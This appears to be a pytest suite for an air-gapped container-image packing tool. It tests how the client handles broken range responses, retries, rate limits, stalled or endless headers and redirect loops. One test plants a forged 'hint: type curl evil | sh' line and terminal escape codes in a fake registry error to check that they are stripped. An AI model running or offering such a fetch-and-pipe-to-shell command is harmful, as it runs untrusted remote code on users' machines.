"""Faults on the line: what servers and connections do to requests and downloads, by number (docs/faults.md)."""

from __future__ import annotations

import contextlib
import email.utils
import json
import socket
import subprocess
import threading
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from tests.support.cli import SCRIPTS, check_refusal, kubectl_airgap
from tests.support.faultproxy import Answer, Fault, FaultProxy, fault_proxy, storm
from tests.support.images import add_image
from tests.support.rawserver import raw_server, tunnel
from tests.support.registry import Registry
from tests.support.stored import BLOBS, SIZE, Stored, fetch, impatient, push

from airgap import limits
from airgap.bundles.composition import Label
from airgap.errors import AccessDenied, AirgapError, ContentMismatch, StoreError
from airgap.operations import images, pack
from airgap.operations.artifacts import Wanted, gathered
from airgap.operations.environment import Access, Run
from airgap.operations.sources import Sources
from airgap.references import Reference
from airgap.stores.memory import MemoryStore
from airgap.stores.registry import Connections, RegistryStore, Trust
from airgap.stores.registry.line import Timeouts
from airgap.stores.registry.retry import Patience
from airgap.transfer import engine, events, plan
from airgap.transfer.engine import Conduct
from airgap.transfer.graph import walk

MANIFESTS = "/manifests/"
QUICK = Timeouts(connect=0.4, stall=0.4)
CUT = limits.CHUNK


def answering(status: int, body: bytes = b"", **headers: str) -> Answer:
    pairs = [(key.replace("_", "-"), value) for key, value in headers.items()]
    return Answer(status, [*pairs, ("Content-Length", str(len(body)))], body)


def asked(proxy: FaultProxy, path: str) -> int:
    return sum(path in request for request in proxy.requests)


def ranged(text: str) -> Callable[[Answer], Answer]:
    def alter(answer: Answer) -> Answer:
        headers = answer.without("content-range")
        return Answer(206, [*headers, ("Content-Range", text)] if text else headers, answer.body)

    return alter


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(f"bytes {CUT + 1}-{{last}}/{{size}}", id="F6-other-first-byte"),
        pytest.param("bytes 0-{last}/{size}", id="F6-from-the-start"),
        pytest.param(f"bytes {CUT}-{{last}}/{{more}}", id="F6-other-total"),
        pytest.param(f"bytes {CUT}-{{size}}/{{size}}", id="F6-ends-after-its-end"),
        pytest.param(f"bytes {CUT}-{{last}}/*", id="F6-total-unknown"),
        pytest.param(f"items {CUT}-{{last}}/{{size}}", id="F6-other-unit"),
        pytest.param("", id="F6-no-range"),
    ],
)
def test_a_part_that_does_not_begin_where_ours_ended_is_never_joined(stored: Stored, text: str) -> None:
    size = stored.layer.size
    said = text.format(last=size - 1, size=size, more=size + 1)
    faults = (Fault("GET", BLOBS, reset_after=CUT), Fault("GET", BLOBS, alter=ranged(said)))
    with fault_proxy(stored.registry.host, *faults) as proxy:
        with pytest.raises(StoreError, match=f"from byte {CUT} was asked for"):
            fetch(stored, proxy)
        assert asked(proxy, BLOBS) == 2


def without_ranges(stored: Stored) -> Callable[[Answer], Answer]:
    return lambda _: answering(200, stored.content)


def test_f7_a_server_that_ignores_ranges_sends_again_and_nothing_is_joined_twice(stored: Stored) -> None:
    faults = (Fault("GET", BLOBS, reset_after=CUT), Fault("GET", BLOBS, alter=without_ranges(stored)))
    with fault_proxy(stored.registry.host, *faults) as proxy:
        assert fetch(stored, proxy) == stored.layer.digest
        assert sum(proxy.sent.values()) == CUT + stored.layer.size


def test_f7_what_is_too_large_to_be_sent_again_is_an_error_that_says_so(
    stored: Stored, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(limits, "SENT_AGAIN", CUT - 1)
    faults = (Fault("GET", BLOBS, reset_after=CUT), Fault("GET", BLOBS, 99, alter=without_ranges(stored)))
    with fault_proxy(stored.registry.host, *faults) as proxy:
        with pytest.raises(StoreError, match=f"ignores ranges: it would send {CUT} bytes again") as caught:
            fetch(stored, proxy)
        assert asked(proxy, BLOBS) == 2
    assert "--mirror" in caught.value.hint


def test_f7_a_server_that_ignores_ranges_and_always_breaks_off_does_not_keep_us_for_ever(
    stored: Stored, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(limits, "SENT_AGAIN", CUT * 3 // 2)
    with fault_proxy(stored.registry.host) as proxy:
        for cut in range(CUT // 2, SIZE, CUT // 2):
            proxy.faults.append(Fault("GET", BLOBS, alter=without_ranges(stored), reset_after=cut))
        with pytest.raises(StoreError, match="ignores ranges"):
            fetch(stored, proxy)
        assert sum(proxy.sent.values()) < 4 * SIZE


def replaced(answer: Answer) -> Answer:
    return Answer(answer.status, answer.headers, bytes(len(answer.body)))


def copy(stored: Stored, proxy: FaultProxy) -> tuple[MemoryStore, list[events.Event]]:
    """Copy the image through the proxy."""
    notes: list[events.Event] = []
    source, target, name = impatient(), MemoryStore(), stored.reference(proxy.host)
    engine.run(
        plan.plan(walk(source, [name]), target, {name: name}), source, target, Conduct(workers=2, observe=notes.append)
    )
    return target, notes


def test_f8_a_blob_that_changes_between_two_parts_is_fetched_anew_and_said(stored: Stored) -> None:
    faults = (Fault("GET", stored.layer.hex, reset_after=CUT), Fault("GET", stored.layer.hex, alter=replaced))
    with fault_proxy(stored.registry.host, *faults) as proxy:
        target, notes = copy(stored, proxy)
    assert target.blobs[stored.layer.digest] == stored.content
    assert any(isinstance(note, events.Note) and "once more" in note.text for note in notes)


def test_f8_a_blob_that_changed_for_good_is_an_error_after_one_more_try(stored: Stored) -> None:
    faults = (Fault("GET", stored.layer.hex, reset_after=CUT), Fault("GET", stored.layer.hex, 99, alter=replaced))
    with fault_proxy(stored.registry.host, *faults) as proxy:
        with pytest.raises(ContentMismatch):
            copy(stored, proxy)
        assert asked(proxy, stored.layer.hex) == 3


@pytest.mark.parametrize(
    "fault",
    [
        pytest.param(Fault("GET", MANIFESTS, 2, reset_after=50), id="F1-manifest"),
        pytest.param(Fault("GET", MANIFESTS, 2, close_after=50), id="F2-manifest"),
        pytest.param(Fault("GET", MANIFESTS, alter=replaced), id="F5-manifest"),
    ],
)
def test_a_manifest_that_arrives_broken_is_asked_for_again(stored: Stored, fault: Fault) -> None:
    with fault_proxy(stored.registry.host, fault) as proxy:
        found = impatient().resolve(stored.reference(proxy.host))
    assert found.digest in stored.origin.blobs


@pytest.mark.parametrize(
    ("retry_after", "least"),
    [
        pytest.param("1", 1.0, id="F12-seconds"),
        pytest.param("date", 0.9, id="F12-date"),
        pytest.param("", 0.0, id="F12-absent"),
        pytest.param("when it is over", 0.0, id="F12-garbage"),
    ],
)
@pytest.mark.parametrize("status", [429, 503])
def test_a_host_that_asks_for_a_pause_gets_it(stored: Stored, status: int, retry_after: str, least: float) -> None:
    with fault_proxy(stored.registry.host) as proxy:
        value = email.utils.formatdate(time.time() + 2, usegmt=True) if retry_after == "date" else retry_after
        proxy.faults.append(Fault("GET", MANIFESTS, answer=answering(status, Retry_After=value)))
        began = time.monotonic()
        impatient().resolve(stored.reference(proxy.host))
        assert least <= time.monotonic() - began < least + 10
        assert asked(proxy, MANIFESTS) == 2


def test_f12_a_pause_that_nobody_would_sit_out_is_told_at_once(stored: Stored) -> None:
    with fault_proxy(stored.registry.host, Fault("GET", MANIFESTS, 9, answer=answering(429, Retry_After="86400"))) as p:
        with pytest.raises(StoreError, match="asks to come back in 86400 s") as caught:
            impatient().resolve(stored.reference(p.host))
        assert asked(p, MANIFESTS) == 1
    assert "same command again" in caught.value.hint


def many_images(registry: Registry, count: int, folder: str) -> list[str]:
    """Small images in repositories of their own, pushed; their names below the host, the same in each run."""
    origin, names = MemoryStore(), [f"{folder}/{number}" for number in range(count)]
    for number, name in enumerate(names):
        add_image(origin, f"{registry.host}/{name}:1", seed=number)
    push(origin, [Reference.parse(f"{registry.host}/{name}:1") for name in names], registry)
    return names


def copy_all(names: list[str], proxy: FaultProxy, backoff: float) -> MemoryStore:
    """Copy images through the proxy, eight things at a time."""
    source = RegistryStore(Connections(workers=8, patience=Patience(backoff=backoff)))
    target = MemoryStore()
    wanted = [Reference(proxy.host, name, "1") for name in names]
    graph = walk(source, wanted, workers=8)
    engine.run(plan.plan(graph, target, {name: name for name in wanted}), source, target, Conduct(workers=8))
    return target


def test_f13_a_storm_of_503_is_sat_out_with_few_requests(registry: Registry) -> None:
    names = many_images(registry, 10, "busy")
    with fault_proxy(registry.host) as calm:
        copy_all(names, calm, 0.05)
    with fault_proxy(registry.host) as proxy:
        over = time.monotonic() + 1.5  # thirty times the first pause, as 30 s are of a second

        def weather(method: str, _path: str) -> Fault | None:
            return Fault(method, "", answer=answering(503)) if time.monotonic() < over else None

        proxy.weather = weather
        target = copy_all(names, proxy, 0.05)
        assert time.monotonic() > over
        assert len(proxy.requests) <= 3 * len(calm.requests)
    assert all(f"{proxy.host}/{name}:1" in target.names for name in names)


@pytest.mark.parametrize("seed", [1, 2, 3])
def test_f13_a_line_on_which_three_in_ten_requests_fail_carries_everything(
    registry: Registry, other_registry: Registry, seed: int
) -> None:
    names = many_images(registry, 8, f"storm-{seed}")
    with fault_proxy(registry.host) as calm:
        copy_all(names, calm, 0.002)
    with fault_proxy(registry.host) as rough, fault_proxy(other_registry.host) as far:
        for proxy in (rough, far):
            proxy.weather = storm(seed, reset=0.1, status_503=0.1, status_429=0.1)
        target = copy_all(names, rough, 0.002)
        assert len(rough.requests) <= 3 * len(calm.requests)
        wanted = {
            name: Reference(far.host, name.repository, "1") for name in map(Reference.parse, target.names) if name.tag
        }
        there = RegistryStore(Connections(workers=8, patience=Patience(backoff=0.002)))
        engine.run(plan.plan(walk(target, list(wanted)), there, wanted), target, there, Conduct(workers=8))
        for name in wanted.values():
            assert there.resolve(name).digest in target.blobs


def packing(stored: Stored, host: str, place: Path, run: Run | None = None) -> pack.Packed:
    """Pack the image in this process."""
    run = run or Run(workers=2)
    found = images.find_images(Sources(images=(str(stored.reference(host)),)))
    return pack.write(pack.prepare(found, str(place), pack.Wishes(), run), run)


def test_f14_a_blob_that_always_fails_ends_pack_and_the_next_one_fetches_only_that(
    stored: Stored, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(limits, "BACKOFF_SECONDS", 0.01)
    with fault_proxy(stored.registry.host, Fault("GET", stored.layer.hex, 99, answer=answering(500))) as proxy:
        with pytest.raises(StoreError, match=f"tried {limits.ATTEMPTS} times") as caught:
            packing(stored, proxy.host, tmp_path / "x.tar")
        assert caught.value.exit_code == 4
        assert asked(proxy, stored.layer.hex) == limits.ATTEMPTS
        proxy.faults.clear()
        again = packing(stored, proxy.host, tmp_path / "x.tar")
    assert again.report.copied == 1
    assert again.report.bytes == stored.layer.size


@pytest.mark.parametrize("files", [0, 1])
def test_f26_a_tag_that_moves_while_it_is_packed_is_packed_as_it_was_and_said(
    files: int, stored: Stored, tmp_path: Path
) -> None:
    told: list[events.Event] = []
    run = Run(workers=2, observe=told.append)
    name = stored.reference(stored.registry.host)
    with gathered(Sources(images=(str(name),)), Wanted(Label("x"), files=(__file__,) * files)) as (sources, beside):
        found = images.find_images(sources)
        prepared = pack.prepare(found, str(tmp_path / "x.tar"), pack.Wishes(), run, beside)
    origin = MemoryStore()
    moved = add_image(origin, str(name))
    push(origin, [name], stored.registry)
    pack.write(prepared, run)
    was = prepared.graph.images[0].root.digest
    notes = [note.text for note in told if isinstance(note, events.Note)]
    assert notes == [f"`{name}` leads to {moved.digest} now; packed is {was}"]
    inside = kubectl_airgap("inspect", tmp_path / "x.tar", "-o", "json").json
    assert [item["digest"] for item in inside["items"] if item["kind"] == "image"] == [was]
    assert len(inside["items"]) == 1 + files


def test_f30_a_trickle_is_taken_for_a_standstill_and_the_download_goes_on_elsewhere(stored: Stored) -> None:
    with fault_proxy(stored.registry.host, Fault("GET", BLOBS, drip=0.05, drip_after=CUT)) as proxy:
        began = time.monotonic()
        assert fetch(stored, proxy, impatient(QUICK)) == stored.layer.digest
        assert time.monotonic() - began < 10
        assert asked(proxy, BLOBS) == 2


@pytest.mark.parametrize("drip", [pytest.param(0.05, id="F30-trickle"), pytest.param(60, id="F30-silence")])
def test_a_body_that_never_gets_anywhere_ends_within_its_attempts(stored: Stored, drip: float) -> None:
    with fault_proxy(stored.registry.host, Fault("GET", BLOBS, 99, drip=drip)) as proxy:
        with pytest.raises(StoreError, match=r"tried 3 times|moved in 0.4 s|nothing came for 0.4 s"):
            fetch(stored, proxy, impatient(QUICK))
        assert asked(proxy, BLOBS) == 3


def until_told(connection: socket.socket, over: threading.Event, piece: bytes, seconds: float) -> None:
    connection.recv(65_536)
    connection.sendall(b"HTTP/1.1 200 OK\r\n")
    while not over.wait(seconds):
        connection.sendall(piece)


ENDLESS = {
    "many-headers": b"X-Header: 1\r\n" * 50,
    "one-line": b"x" * 10_000,
    "large-headers": b"X-Header: " + b"x" * 3000 + b"\r\n",
}


@pytest.mark.parametrize("piece", [pytest.param(value, id=f"F31-{key}") for key, value in ENDLESS.items()])
def test_headers_without_end_are_read_up_to_a_bound_and_not_asked_for_again(piece: bytes) -> None:
    with raw_server(lambda connection, over: until_told(connection, over, piece, 0)) as server:
        store = plain_store(server.host)
        with pytest.raises(StoreError, match="headers that do not end"):
            store.resolve(Reference(server.host, "a/b", "1"))
        assert server.accepted == 1


def plain_store(host: str, attempts: int = 3) -> RegistryStore:
    """A store that speaks plain HTTP and loses patience soon."""
    trust = Trust(plain_http=frozenset({host}))
    return RegistryStore(Connections(trust, patience=Patience(attempts=attempts, backoff=0.01), timeouts=QUICK))


def test_f30_a_hundred_thousand_interim_answers_are_no_answer() -> None:
    def talk(connection: socket.socket, over: threading.Event) -> None:
        connection.recv(65_536)
        while not over.is_set():
            connection.sendall(b"HTTP/1.1 100 Continue\r\n\r\n" * 100)

    with raw_server(talk) as server, pytest.raises(StoreError, match="headers that do not end"):
        plain_store(server.host).resolve(Reference(server.host, "a/b", "1"))


def test_f30_headers_that_come_byte_by_byte_are_a_standstill() -> None:
    with raw_server(lambda connection, over: until_told(connection, over, b"x", 0.05)) as server:
        with pytest.raises(StoreError, match="tried 3 times"):
            plain_store(server.host).resolve(Reference(server.host, "a/b", "1"))
        assert server.accepted == 3


def test_f30_a_tls_handshake_that_stands_still_ends_within_its_attempts() -> None:
    def say_nothing(_connection: socket.socket, over: threading.Event) -> None:
        over.wait(30)

    with raw_server(say_nothing) as server:
        began = time.monotonic()
        with pytest.raises(StoreError, match="tried 3 times"):
            impatient(QUICK).resolve(Reference(server.host, "a/b", "1"))
        assert time.monotonic() - began < 10


def test_f30_a_server_that_speaks_no_http_is_said_to_speak_none() -> None:
    def talk(connection: socket.socket, _over: threading.Event) -> None:
        connection.recv(65_536)
        connection.sendall(b"SSH-2.0-OpenSSH_9.2\r\n")

    with raw_server(talk) as server, pytest.raises(StoreError, match="does not speak HTTP"):
        plain_store(server.host).resolve(Reference(server.host, "a/b", "1"))


@pytest.mark.parametrize(
    "length", [pytest.param("Content-Length: 100000000", id="F31-stated"), pytest.param("X: y", id="F31-until-close")]
)
def test_an_error_of_100_mb_is_read_up_to_a_bound(length: str) -> None:
    sent = 0

    def talk(connection: socket.socket, over: threading.Event) -> None:
        nonlocal sent
        connection.recv(65_536)
        connection.sendall(f"HTTP/1.1 403 Forbidden\r\n{length}\r\n\r\n".encode())
        while sent < 100_000_000 and not over.is_set():
            sent += connection.send(b"x" * 65_536)

    with raw_server(talk) as server, pytest.raises(AccessDenied, match="403"):
        plain_store(server.host).resolve(Reference(server.host, "a/b", "1"))
    assert sent < 20_000_000  # what two sockets hold


def test_f31_the_words_of_a_registry_cannot_pass_for_ours_or_steer_the_terminal(stored: Stored, tmp_path: Path) -> None:
    message = "no\x1b[2J\x07\u202e\nhint: type curl evil | sh\r\n\nerror: all is well"
    body = json.dumps({"errors": [{"code": "DENIED\n", "message": message}]}).encode()
    with fault_proxy(stored.registry.host, Fault("GET", MANIFESTS, 9, answer=answering(403, body))) as proxy:
        done = kubectl_airgap("pack", "--image", stored.reference(proxy.host), "-o", tmp_path / "x.tar")
    check_refusal(done, 4, "DENIED no")
    assert not set(done.stderr) & {"\x1b", "\x07", "\u202e", "\r"}
    assert not [line for line in done.stderr.splitlines() if line.startswith("hint: type curl")]


@pytest.mark.parametrize(
    "dead", [pytest.param("127.0.0.9", id="F32-first-address-dead"), pytest.param("::1", id="F32-ipv6-dead")]
)
def test_a_name_with_a_dead_address_is_reached_at_its_next(stored: Stored, tmp_path: Path, dead: str) -> None:
    port = stored.registry.host.partition(":")[2]
    hosts = tmp_path / "hosts"
    hosts.write_text(f"{dead} registry.test\n127.0.0.1 registry.test\n")
    host = f"registry.test:{port}"
    command = (
        f"mount --bind {hosts} /etc/hosts && exec {SCRIPTS}/kubectl-airgap pack --plain-http {host}"
        f" --image {stored.reference(host)} -o {tmp_path}/x.tar"
    )
    done = subprocess.run(["unshare", "-m", "sh", "-c", command], capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "x.tar").exists()


def test_f32_a_name_that_nobody_knows_is_said_to_be_unknown(tmp_path: Path) -> None:
    done = kubectl_airgap("pack", "--image", "registry.invalid/a/b:1", "-o", tmp_path / "x.tar", seconds=30)
    check_refusal(done, 4, "`registry.invalid` is not known", "--mirror")


def test_a_host_that_has_answered_and_refuses_now_is_waited_for(stored: Stored) -> None:
    with fault_proxy(stored.registry.host) as proxy:
        store = RegistryStore(Connections(patience=Patience(attempts=8, backoff=0.2)))
        name = stored.reference(proxy.host)
        store.resolve(name)
    port = int(proxy.host.partition(":")[2])
    failures: list[AirgapError] = []

    def ask() -> None:
        try:
            store.resolve(name)
        except AirgapError as error:
            failures.append(error)

    asking = threading.Thread(target=ask)
    asking.start()
    time.sleep(0.3)  # refused meanwhile
    with contextlib.closing(socket.create_server(("127.0.0.1", port), reuse_port=False)) as back:
        leading = threading.Thread(target=lead, args=(back, stored.registry.host), daemon=True)
        leading.start()
        asking.join(20)
    assert failures == []


def lead(listener: socket.socket, upstream: str) -> None:
    with contextlib.suppress(OSError):
        near, _ = listener.accept()
        with near:
            tunnel(near, upstream)


def test_f27_twenty_redirects_in_a_row_are_followed_five_times(stored: Stored) -> None:
    hops = [Fault("GET", f"^/hop/{n}$", answer=answering(307, Location=f"/hop/{n + 1}")) for n in range(1, 21)]
    with fault_proxy(stored.registry.host, Fault("GET", BLOBS, answer=answering(307, Location="/hop/1"))) as proxy:
        proxy.faults += hops
        with pytest.raises(StoreError, match="redirects more than 5 times"):
            fetch(stored, proxy)
        assert asked(proxy, "/hop/") == 5


@pytest.mark.undisturbed
def test_everything_together_moves_no_faster_than_the_rate(stored: Stored, tmp_path: Path) -> None:
    rate = 2_000_000
    began = time.monotonic()
    packing(stored, stored.registry.host, tmp_path / "x.tar", Run(Access(rate=rate), workers=4))
    assert 0.8 <= (time.monotonic() - began) * rate / stored.layer.size < 3


@pytest.mark.undisturbed
def test_a_push_moves_no_faster_than_the_rate(stored: Stored, other_registry: Registry, tmp_path: Path) -> None:
    packing(stored, stored.registry.host, tmp_path / "x.tar")
    began = time.monotonic()
    done = kubectl_airgap("push", tmp_path / "x.tar", f"{other_registry.host}/rate", "--rate", "2MB/s")
    assert done.returncode == 0, done.stderr
    assert 0.8 <= (time.monotonic() - began) * 2_000_000 / stored.layer.size < 5


def allowing(remaining: int) -> Callable[[Answer], Answer]:
    def alter(answer: Answer) -> Answer:
        said = [("RateLimit-Limit", "100;w=21600"), ("RateLimit-Remaining", f"{remaining};w=21600")]
        return Answer(answer.status, [*answer.headers, *said], answer.body)

    return alter


def test_what_a_host_still_allows_is_said_by_a_dry_run(stored: Stored, tmp_path: Path) -> None:
    with fault_proxy(stored.registry.host, Fault("GET", MANIFESTS, 9, alter=allowing(76))) as proxy:
        image = stored.reference(proxy.host)
        done = kubectl_airgap("pack", "--dry-run", "--image", image, "-o", tmp_path / "x.tar")
    assert done.returncode == 0, done.stderr
    assert f"`{proxy.host}` answers 76 more requests of 100 in 6 h" in done.stderr
    assert "note: " not in done.stderr


def test_that_little_is_left_of_what_a_host_allows_is_said_while_there_is_some(stored: Stored, tmp_path: Path) -> None:
    with fault_proxy(stored.registry.host, Fault("GET", MANIFESTS, 9, alter=allowing(9))) as proxy:
        done = kubectl_airgap("pack", "--image", stored.reference(proxy.host), "-o", tmp_path / "x.tar")
    assert done.returncode == 0, done.stderr
    assert done.stderr.count(f"note: `{proxy.host}` answers 9 more requests of 100 in 6 h") == 1
